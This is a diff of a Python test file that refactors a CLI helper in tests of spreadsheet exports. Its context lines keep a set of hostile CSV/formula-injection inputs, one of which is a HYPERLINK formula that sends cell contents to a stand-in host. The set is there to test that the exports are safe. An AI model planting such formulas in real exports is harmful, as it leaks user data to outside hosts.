@@ -7,16 +7,14 @@ Chromium, and its exports are opened with openpyxl; the page itself shows each n
 from __future__ import annotations
 
 import json
-import os
 import subprocess
-import sys
 from pathlib import Path
 
 import openpyxl
 import pytest
 from playwright.sync_api import Page
 
-from tests.conftest import NOW
+from tests.conftest import NOW, run_cli
 from tests.test_bad_input import AS_OF, assert_safe, risky, write_raw
 
 # Two real CLI runs and a browser for two tests: the fast loop keeps the hostile site in
@@ -27,12 +25,7 @@ HOSTILE = {'=HYPERLINK("http://x.example/?"&A1)', "@SUM(A1)", "=1+1", "+Plus Co"
 
 
 def hcportal(work: Path, *args: str) -> subprocess.CompletedProcess:
-    env = {k: v for k, v in os.environ.items() if not k.startswith("HCPORTAL_")}
-    env["HCPORTAL_NOW"] = NOW.isoformat()
-    return subprocess.run(
-        [sys.executable, "-m", "hcportal", *args], cwd=work, env=env,
-        capture_output=True, text=True, timeout=300,
-    )  # fmt: skip
+    return run_cli(*args, cwd=work, now=NOW)
 
 
 @pytest.fixture(scope="module")
